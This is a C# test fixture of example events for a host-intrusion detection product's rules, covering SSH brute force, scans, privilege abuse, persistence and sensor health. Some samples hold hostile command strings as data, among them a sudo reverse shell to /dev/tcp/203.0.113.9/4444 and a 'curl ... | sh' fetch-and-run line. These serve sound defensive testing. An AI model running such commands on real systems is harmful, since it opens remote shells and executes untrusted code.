using SensorNet.V1;
using static SensorNet.Collector.Tests.Detection.Events;
using static SensorNet.Collector.Tests.Detection.RuleExample;
using static SensorNet.Collector.Tests.Detection.RuleExamples;
using static SensorNet.Collector.Tests.Detection.SipExamples;

namespace SensorNet.Collector.Tests.Detection;

/// <summary>Examples for the rules about hosts, campaigns and SensorNet itself that no plain series shows.</summary>
internal static class HostExamples
{
    private const string Attacker = "203.0.113.9";
    private const double Hour = 3600;

    public static IReadOnlyDictionary<string, Func<RuleExample>> All { get; } = new Dictionary<string, Func<RuleExample>>
    {
        // Logins
        ["h02_ssh_many_users"] = () => Counted(10, i => SshFailure(i * 1000, Attacker, user: $"user{i}")),
        ["h02_ssh_slow"] = () => Counted(20, i => SshFailure(i * 2000, Attacker)),
        ["h02_ssh_probe"] = () => Counted(4, i => Because(Daemon(At(i, EventType.ConnectionClosed, Attacker, user: ""), "sshd"), "preauth")),
        ["h03_success_after_bruteforce"] = () => new(
            [.. Enumerable.Range(0, 5).Select(i => SshFailure(i, Attacker)), SshSuccess(10, "192.0.2.200")], [SshSuccess(20, Attacker)]),
        ["h03_success_after_slow"] = () => new(
            [.. Enumerable.Range(0, 20).Select(i => SshFailure(i * 2000, Attacker)), SshSuccess(39_000, "192.0.2.200")], [SshSuccess(39_500, Attacker)]),
        ["h07_root_login"] = () => Single(Key(SshSuccess(0, Attacker)), SshSuccess(1, Attacker)),
        ["h28_first_login"] = () => new([SshSuccess(0, user: "alice"), SshSuccess(Hour, user: "bob"), SshSuccess(25 * Hour, user: "alice")], [SshSuccess(26 * Hour, user: "mallory")]),
        ["x11_console_bruteforce"] = () => Counted(5, i => Daemon(At(i, EventType.AuthFailure, Attacker, user: "admin"), "sensornet-console")),

        // Firewall and bans
        ["h10_horizontal_scan"] = () => Counted(3, i => At(i, EventType.FirewallBlock, Attacker, host: $"pbx{i}", user: "")),
        ["h11_firewall_volume"] = () => Counted(18, i => At(i, EventType.FirewallBlock, Attacker, user: "")),
        ["h11_firewall_flood"] = () => Counted(500, i => At(i * 0.1, EventType.FirewallBlock, $"198.51.{i / 250}.{i % 250}", user: "")),
        ["x03_ban"] = () => Single(At(0, EventType.F2BFound, Attacker, user: ""), At(1, EventType.F2BBan, Attacker, user: "")),
        ["x05_ban_ineffective"] = () => new([At(0, EventType.IpBlocked, Attacker, user: ""), AuthFailed(60, Attacker, "1000")], [Answered(AuthFailed(120, Attacker, "1000"))]),
        ["x07_listed_source_in"] = () => Single(SshSuccess(0, Attacker), Listed(SshSuccess(1, Attacker))),

        // The host
        ["h04_sudo_by_service"] = () => Single(At(0, EventType.SudoSuccess, "", user: "alice"), At(1, EventType.SudoSuccess, "", user: "asterisk")),
        ["h04_su_by_service"] = () => Single(Su(0, "alice"), Su(1, "asterisk")),
        ["h05_suspicious_sudo"] = () => Single(Sudo(0, "/usr/bin/ls"), Sudo(1, "/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444")),
        ["h12_defence_disabled"] = () => Single(Daemon(At(0, EventType.ServiceStop, "", user: ""), "cron"), Daemon(At(1, EventType.ServiceStop, "", user: ""), "fail2ban")),
        ["h13_log_tampering"] = () => Single(AuditRecord(0, "CONFIG_CHANGE", "op=remove_rule", "4294967295"), AuditRecord(1, "CONFIG_CHANGE", "op=remove_rule", "1000")),
        ["h14_account_created"] = () => Single(At(0, EventType.AccountRemoved, ""), At(1, EventType.AccountCreated, "")),
        ["h14_root_account"] = () => Single(Says(0, EventType.AccountCreated, "new user: name=eve, UID=1001"), Says(1, EventType.AccountCreated, "new user: name=eve, UID=0, GID=0")),
        ["h15_attack_then_account"] = () => new(
            [.. Enumerable.Range(0, 5).Select(i => SshFailure(i, Attacker)), SshSuccess(10, Attacker), At(60, EventType.AccountCreated, "", host: "pbx2")],
            [At(120, EventType.AccountCreated, "")]),
        ["h16_persistence"] = () => Single(Says(0, EventType.FileChanged, "/tmp/notes"), Says(1, EventType.FileChanged, "/root/.ssh/authorized_keys")),
        ["h18_oom"] = () => Single(Process(0, EventType.KernelOom, "asterisk"), Process(1, EventType.KernelOom, "java")),
        ["h18_oom_voip"] = () => Single(Process(0, EventType.KernelOom, "java"), Process(1, EventType.KernelOom, "asterisk")),
        ["h20_segfault"] = () => Single(Process(0, EventType.KernelSegfault, "bash"), Process(1, EventType.KernelSegfault, "kamailio")),
        ["h20_crash_while_fuzzed"] = () => new(
            [Process(0, EventType.KernelSegfault, "kamailio"), Because(At(120, EventType.SipParseError, Attacker, user: ""), "bad_via")], [Process(130, EventType.KernelSegfault, "kamailio")]),
        ["h21_promiscuous"] = () => Single(Says(0, EventType.KernelPromiscuous, "device eth0 left promiscuous mode"), Says(1, EventType.KernelPromiscuous, "device eth0 entered promiscuous mode")),
        ["h22_download_and_run"] = () => Single(Runs(0, "/usr/bin/curl", "curl https://example.org -o page"), Runs(1, "/bin/sh", "sh -c curl http://example.org/x | sh")),
        ["h22_fetch_chmod_run"] = () => new(
            [Runs(0, "/usr/bin/curl", "curl x"), Runs(1, "/bin/chmod", "chmod +x /tmp/x"), Runs(2, "/tmp/x", "/tmp/x", parent: "77")],
            [Runs(3, "/tmp/x", "/tmp/x")]),
        ["h22_decoded_and_run"] = () => new([Runs(0, "/usr/bin/base64", "base64 -d"), Runs(20, "/bin/sh", "sh")], [Runs(21, "/usr/bin/base64", "base64 -d")]),
        ["h23_exploit_marks"] = () => Single(Says(0, EventType.LogRaw, "pkexec: executing command"), Says(1, EventType.LogRaw, "pkexec: The value for the SHELL variable was not found the /etc/shells file")),
        ["h24_resource_critical"] = () => Single(Resource(At(0, EventType.ResourceAlert, "", user: ""), 94.9), Resource(At(1, EventType.ResourceAlert, "", user: ""), 95)),
        ["h25_disk_full"] = () => Single(Says(0, EventType.LogRaw, "write failed: Input/output error"), Says(1, EventType.LogRaw, "write failed: No space left on device")),
        ["h26_vm_error"] = () => Single(At(0, EventType.VmStopped, "", user: ""), At(1, EventType.VmError, "", user: "")),
        ["h27_vm_destroyed"] = () => Single(Machine(0, EventType.VmStopped), Machine(1, EventType.VmDestroyed)),

        // Campaigns
        ["x01_ssh_and_sip"] = () => new(
            [.. Enumerable.Range(0, 5).Select(i => SshFailure(i, Attacker)), .. Enumerable.Range(0, 7).Select(i => AuthFailed(60 + i, Attacker, $"{1000 + (i % 4)}"))],
            [AuthFailed(70, Attacker, "1003")]),
        ["x01_ssh_and_enumeration"] = () => new(
            [.. Enumerable.Range(0, 5).Select(i => SshFailure(i, Attacker)), .. Enumerable.Range(0, 9).Select(Series["sip_unknown_user"])], [Series["sip_unknown_user"](9)]),
        ["x02_multi_host_campaign"] = () => new(
            [.. Enumerable.Range(0, 10).Select(i => SshFailure(i, Attacker, $"pbx{i % 2}"))], [.. Enumerable.Range(0, 5).Select(i => SshFailure(20 + i, Attacker, "pbx2"))]),

        // SensorNet itself
        ["x08_sensor_silent"] = () => Single(About(0, EventType.SensorGap, "edge-1"), About(1, EventType.SensorSilent, "edge-1")),
        ["x08_sensors_silent"] = () => Single(About(0, EventType.SensorSilent, "edge-1"), About(60, EventType.SensorSilent, "edge-2")),
        ["x09_sensor_impaired"] = () => Single(About(0, EventType.SensorHealth, "edge-1"), About(1, EventType.SensorClockSkew, "edge-1")),
        ["x09_rules_short_of_memory"] = () => Single(Because(About(0, EventType.SensorHealth, ""), "store_damage"), Because(About(1, EventType.SensorHealth, ""), "rule_keys_evicted")),
        ["x09_sensor_gap"] = () => Single(About(0, EventType.SensorHealth, "edge-1"), About(1, EventType.SensorGap, "edge-1")),
        ["x10_log_silent"] = () => Single(At(0, EventType.LogTruncated, "", user: ""), Origin(At(1, EventType.LogSilent, "", user: ""))),
        ["x12_rules_changed"] = () => Single(Audit(0, "alert", "acknowledge"), Audit(1, "rule", "tune")),
        ["x12_rule_disabled"] = () => Single(Audit(0, "rule", "enable"), Audit(1, "rule", "disable")),
    };

    private static Event Daemon(Event e, string service)
    {
        e.Service = service;
        return e;
    }

    private static Event Key(Event e)
    {
        e.AuthMethod = "publickey";
        return e;
    }

    private static Event Answered(Event e)
    {
        e.Sip.ReplySeen = true;
        return e;
    }

    private static Event Listed(Event e)
    {
        e.Enrichment = new Enrichment { SourceListedBy = "apiban" };
        return e;
    }

    private static Event Su(double seconds, string actor)
    {
        var e = Daemon(At(seconds, EventType.SessionStart, "", user: "root"), "su");
        e.Actor = actor;
        return e;
    }

    private static Event Sudo(double seconds, string command)
    {
        var e = At(seconds, EventType.SudoSuccess, "", user: "alice");
        e.Attributes["process.command_line"] = command;
        return e;
    }

    private static Event AuditRecord(double seconds, string type, string message, string loginUser)
    {
        var e = Says(seconds, EventType.AuditRecord, message);
        e.Audit = new Audit { ClassName = type };
        e.Attributes["auid"] = loginUser;
        return e;
    }

    private static Event Says(double seconds, EventType type, string message)
    {
        var e = At(seconds, type, "", user: "root");
        e.Message = message;
        e.LogSource = LogSource.Auth;
        return e;
    }

    private static Event Process(double seconds, EventType type, string name)
    {
        var e = At(seconds, type, "", user: "");
        e.Process = name;
        return e;
    }

    private static Event Runs(double seconds, string image, string command, string parent = "42")
    {
        var e = At(seconds, EventType.ProcessExec, "", user: "www-data");
        e.Attributes["exe"] = image;
        e.Attributes["proctitle"] = command;
        e.Attributes["ppid"] = parent;
        return e;
    }

    private static Event Machine(double seconds, EventType type)
    {
        var e = At(seconds, type, "", user: "");
        e.VmId = "vm-1";
        return e;
    }

    private static Event About(double seconds, EventType type, string sensor)
    {
        var e = At(seconds, type, "", user: "");
        e.Attributes["sensor"] = sensor;
        return e;
    }

    private static Event Origin(Event e)
    {
        e.Origin = "/var/log/auth.log";
        return e;
    }

    private static Event Audit(double seconds, string about, string operation)
    {
        var e = At(seconds, EventType.ConsoleAudit, "", user: "operator");
        e.Audit = new Audit { ClassName = about, Operation = operation };
        return e;
    }
}
